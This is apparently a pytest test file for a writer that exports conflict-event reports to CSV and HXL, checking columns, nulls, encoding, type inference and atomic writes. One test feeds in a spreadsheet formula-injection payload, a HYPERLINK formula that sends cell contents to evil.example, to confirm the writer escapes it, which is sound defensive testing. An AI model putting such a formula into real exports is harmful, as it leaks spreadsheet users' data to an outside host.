import csv
from pathlib import Path
from typing import Any

import duckdb
import pandas
import pytest

from geo.merge import MAP_KEYS
from geo.writers.cells import uncell
from geo.writers.table import HXL_TAGS

from ..sample_reports import mixed, report, unlocated
from .writing import write


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def table(folder: Path, reports: list[dict[str, Any]]) -> list[dict[str, str]]:
    write(folder, "csv", reports)
    head, *body = rows(folder / "events.csv")
    return [dict(zip(head, row, strict=True)) for row in body]


def test_every_key_of_the_contract_is_a_column_in_its_order(tmp_path: Path) -> None:
    found = table(tmp_path, mixed())
    assert len(found) == 12
    assert all(tuple(row) == MAP_KEYS for row in found)


def test_null_is_an_empty_cell_and_zero_is_zero(tmp_path: Path) -> None:
    known, none, unknown = table(
        tmp_path, [report(), report(killed_low=0, killed_high=0, lat=0, lon=-0.5), unlocated()]
    )
    assert (known["killed_low"], known["killed_high"], known["lat"]) == ("20", "", "35.5")
    assert (none["killed_low"], none["killed_high"], none["lat"], none["lon"]) == ("0", "0", "0.0", "-0.5")
    assert (unknown["lat"], unknown["place_name"], unknown["ucdp_where_prec"]) == ("", "", "")


def test_it_is_utf8_without_a_mark_and_line_breaks_stay_in_their_cell(tmp_path: Path) -> None:
    (row,) = table(tmp_path, [report(place_name="سرمدا", quote='One,\n"two"\r\nthree.')])
    raw = (tmp_path / "events.csv").read_bytes()
    assert raw.startswith(b"id,event_type,") and raw.endswith(b"\r\n")
    assert (row["place_name"], row["quote"]) == ("سرمدا", 'One,\n"two"\r\nthree.')


def test_no_words_of_an_article_open_as_a_formula(tmp_path: Path) -> None:
    quote = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    (row,) = table(tmp_path, [report(quote=quote, place_text="'Ain Issa", lon=-3.5)])
    assert row["quote"] == f"'{quote}" and uncell(row["quote"]) == quote
    assert (row["place_text"], row["lon"]) == ("'Ain Issa", "-3.5")


def test_pandas_and_duckdb_take_the_columns_for_what_they_are(tmp_path: Path) -> None:
    table(tmp_path, mixed())
    path = str(tmp_path / "events.csv")
    frame = pandas.read_csv(path, parse_dates=["date_start", "updated"])
    assert frame["killed_low"].tolist()[:2] == [20, 62] and frame["admin2"].isna().all()
    assert frame["date_start"].dt.year.eq(2026).all()
    types = dict(duckdb.sql(f"SELECT column_name, column_type FROM (DESCRIBE FROM '{path}')").fetchall())
    assert (types["date_start"], types["killed_low"], types["lat"]) == ("DATE", "BIGINT", "DOUBLE")
    assert duckdb.sql(f"SELECT count(*), count(lat) FROM '{path}'").fetchall() == [(12, 10)]


def test_the_tags_of_hxl_are_the_second_row(tmp_path: Path) -> None:
    write(tmp_path, "hxl", mixed())
    head, tags, *body = rows(tmp_path / "events.hxl.csv")
    tagged = dict(zip(head, tags, strict=True))
    assert tuple(head) == MAP_KEYS and len(body) == 12
    assert {key: tag for key, tag in tagged.items() if tag} == dict(HXL_TAGS)
    assert (tagged["killed_low"], tagged["lat"]) == ("#affected+killed+min", "#geo+lat")


def test_the_same_events_give_the_same_bytes(tmp_path: Path) -> None:
    for name in ("a", "b"):
        write(tmp_path / name, "csv", mixed())
    assert (tmp_path / "a" / "events.csv").read_bytes() == (tmp_path / "b" / "events.csv").read_bytes()


def test_a_wrong_event_leaves_the_old_file(tmp_path: Path) -> None:
    (tmp_path / "events.csv").write_text("old")
    with pytest.raises(ValueError, match="no point on the globe"):
        write(tmp_path, "csv", [report(), report(lat=91.0)])
    assert [path.read_text() for path in tmp_path.iterdir()] == ["old"]
